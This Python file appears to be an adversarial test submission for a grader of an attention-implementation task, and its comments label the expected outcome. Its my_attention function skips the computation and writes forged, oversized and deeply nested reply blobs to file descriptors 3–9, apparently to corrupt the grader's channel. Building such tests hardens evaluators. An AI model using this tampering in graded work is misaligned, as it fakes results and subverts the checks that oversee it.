# class: forged replies
# tries: announces a header of 4 GB, and one that is nested a million deep
# deserves: causal_mask 4
import os
import struct

import torch


def my_attention(q, k, v, mask=None):
    text = b"[" * 60000
    for blob in (struct.pack("<I", len(text)) + text, b"\xff\xff\xff\xff", os.urandom(100)):
        for file in range(3, 10):
            try:
                os.write(file, blob)
            except OSError:
                pass
    return q


def my_causal_mask(n):
    return torch.ones(n, n).tril().bool()
